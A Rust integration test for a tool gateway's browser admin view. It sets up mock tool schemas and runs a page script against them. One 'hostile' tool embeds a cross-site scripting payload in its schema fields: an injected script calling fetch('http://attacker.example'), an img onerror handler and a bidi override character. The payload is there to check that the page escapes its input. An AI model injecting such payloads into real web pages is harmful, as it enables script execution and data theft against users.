//! The view that tries a tool, in a browser: `tests/page/try.mjs` does what a person would.

use moongate_mock::MockScript;
use serde_json::{Value, json};

use crate::harness::{Setup, legacy, only, serve};
use crate::page::{page_home, run_script};

fn tool(name: &str, properties: &Value, required: &[&str]) -> Value {
    let schema = json!({ "type": "object", "properties": properties, "required": required });
    json!({ "name": name, "description": "Does what its name says.", "inputSchema": schema })
}

fn tools() -> Vec<Value> {
    let stop = json!({ "type": "string" });
    let trip = json!({
        "place": { "type": "string", "description": "Where to go.", "examples": ["Mainz"] },
        "days": { "type": "integer", "minimum": 1, "default": 3 },
        "by": { "enum": ["train", "bike", "boat"] },
        "note": { "type": "string", "maxLength": 500 },
        "colour": { "enum": ["red", "green", "blue", "black", "white"] },
        "budget": { "anyOf": [{ "type": "number" }, { "type": "null" }] },
        "stops": { "type": "array", "items": stop, "maxItems": 5 },
        "hotel": { "type": "object",
            "properties": { "stars": { "type": "integer" }, "breakfast": { "type": "boolean" } } },
        "when": {
            "oneOf": [{ "type": "string", "format": "date", "title": "day" },
                { "type": "integer", "title": "week" }] },
        "tags": { "type": "object", "additionalProperties": { "type": "string" } },
        "odd": {},
    });
    let hostile =
        "</p><script>fetch('http://attacker.example')</script><img src=x onerror=alert(1)>\u{202e}"
            .repeat(3);
    let bad = json!({
        hostile.clone(): { "type": "string", "description": hostile, "default": hostile,
            "title": hostile } });
    let number = json!({ "type": "integer" });
    let by = |member: &str| {
        let properties = json!({ member: { "type": "string" } });
        json!({ "type": "object", "title": format!("by {member}"), "properties": properties,
            "required": [member] })
    };
    let message = json!({ "target": { "oneOf": [by("id"), by("name")] },
        "sizes": { "type": "array", "items": { "type": "number" } } });
    vec![
        tool("send", &message, &["target"]),
        tool("plan_trip", &trip, &["place", "days", "by"]),
        tool("count", &json!({ "steps": number, "ms": number }), &[]),
        tool("wait", &json!({ "ms": number }), &[]),
        tool("ask_name", &json!({}), &[]),
        tool("ask_page", &json!({}), &[]),
        tool("fail", &json!({}), &[]),
        tool("hostile", &bad, &[]),
    ]
}

#[tokio::test]
async fn a_tool_is_tried_in_a_browser() {
    let behave = [
        ("plan_trip", "echo"),
        ("send", "echo"),
        ("count", "progress"),
        ("wait", "sleep"),
        ("ask_name", "elicit"),
        ("ask_page", "elicit_url"),
        ("hostile", "echo"),
    ];
    let behave = behave.map(|(name, like)| (name.to_owned(), like.to_owned()));
    let server = serve(MockScript {
        tools: tools(),
        behave: behave.into(),
        ..only(legacy(), &[])
    })
    .await;
    let gateway = Setup::new().http("a", &server.url).start().await;
    gateway.ready(&["a"]).await;
    let admin = gateway.app.admin.unwrap().to_string();
    run_script(
        "try.mjs",
        &admin,
        &page_home().join("pictures"),
        async |order| panic!("the script orders {order:?}"),
    )
    .await;
}
